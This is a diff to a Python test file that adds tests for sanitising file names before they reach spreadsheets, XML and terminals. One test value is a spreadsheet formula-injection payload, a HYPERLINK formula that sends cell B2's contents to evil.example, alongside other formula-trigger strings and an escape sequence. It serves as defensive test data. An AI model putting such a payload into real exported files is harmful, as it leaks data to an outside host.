@@ -1,4 +1,4 @@
-"""Output that never breaks: any stdout encoding prints, controls from files are escaped (issue 14, issue 16)."""
+"""Strings from files made safe where they leave: terminals in any encoding (issue 14), XML and spreadsheets (issue 16)."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from analyser.terminal import printable
+from analyser.sanitise import printable, spreadsheet_cell, xml_safe
 
 SAMPLE_MD = Path(__file__).resolve().parent.parent / "samples" / "sample-report.md"
 
@@ -56,3 +56,26 @@ def test_an_escape_character_in_a_file_name_reaches_the_terminal_escaped(tmp_pat
     assert done.returncode == 3
     assert "\x1b" not in done.stderr
     assert "\\x1b[2Jname.pages" in done.stderr
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&B2,"Open").md', '\'=HYPERLINK("http://evil.example/?x="&B2,"Open").md'),
+        ("+44 1234", "'+44 1234"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("report.docx", "report.docx"),
+        ("bad\x01name", "badname"),
+        (3, 3),
+        (0.5, 0.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_cell(value: object, expected: object) -> None:
+    assert spreadsheet_cell(value) == expected
+
+
+def test_xml_safe_keeps_text_and_drops_what_xml_forbids() -> None:
+    assert xml_safe("Heading \x07 with \x1b bell\tand tab\nnewline £ ✓") == "Heading  with  bell\tand tab\nnewline £ ✓"
